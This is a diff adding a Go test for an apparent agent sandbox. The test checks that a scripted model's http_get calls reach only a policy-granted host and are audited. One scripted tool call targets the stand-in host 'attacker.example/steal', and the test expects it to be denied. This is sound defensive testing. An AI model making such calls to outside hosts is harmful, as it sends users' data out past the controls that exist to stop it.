@@ -1,0 +1,67 @@
+package workflows_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/wardenhq/warden"
+	"github.com/wardenhq/warden/llm"
+	"github.com/wardenhq/warden/worker"
+)
+
+// TestEgressIsGrantedByPolicyAndAudited: http_get reaches the one host the
+// policy grants, through the egress proxy, and the connection is in the
+// audit log; a host nobody granted is denied before anything connects.
+func TestEgressIsGrantedByPolicyAndAudited(t *testing.T) {
+	t.Parallel()
+	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "hello from the granted host")
+	}))
+	defer site.Close()
+	host := strings.TrimPrefix(site.URL, "http://")
+
+	policyDir := t.TempDir()
+	files, err := filepath.Glob("../policies/bundle/*")
+	require.NoError(t, err)
+	for _, f := range files {
+		b, err := os.ReadFile(f)
+		require.NoError(t, err)
+		require.NoError(t, os.WriteFile(filepath.Join(policyDir, filepath.Base(f)), b, 0o644))
+	}
+	require.NoError(t, os.MkdirAll(filepath.Join(policyDir, "warden", "network"), 0o755))
+	grant, _ := json.Marshal(map[string]any{"allowed_hosts": []string{host}})
+	require.NoError(t, os.WriteFile(filepath.Join(policyDir, "warden", "network", "data.json"), grant, 0o644))
+
+	h := newHarnessWith(t, worker.Config{PolicyDir: policyDir})
+	require.NoError(t, h.deps.Scripted.Add(llm.Scenario{Name: "fetch", Turns: []llm.Turn{
+		{ToolCalls: []llm.ScriptedCall{
+			{Name: "http_get", Args: json.RawMessage(fmt.Sprintf(`{"url": "%s/hello"}`, site.URL))},
+			{Name: "http_get", Args: json.RawMessage(`{"url": "http://attacker.example/steal"}`)},
+		}},
+		{Content: "Fetched:\n{{tool_results}}"},
+	}}))
+	res, err := h.run(request("fetch"))
+	require.NoError(t, err)
+	require.Equal(t, warden.StatusCompleted, res.Status)
+	require.Equal(t, map[string]int{"executed": 1, "denied": 1}, res.ToolCalls)
+	require.Contains(t, res.Answer, "hello from the granted host")
+
+	var egress []warden.AuditEvent
+	for _, e := range h.events() {
+		if e.Type == warden.EventEgressConnection {
+			egress = append(egress, e)
+		}
+	}
+	require.Len(t, egress, 1, "one connection, to the granted host")
+	require.Equal(t, warden.VerdictAllow, egress[0].Decision)
+	require.Equal(t, "acme", egress[0].Tenant)
+	require.Contains(t, egress[0].Message, "connected to "+host)
+}
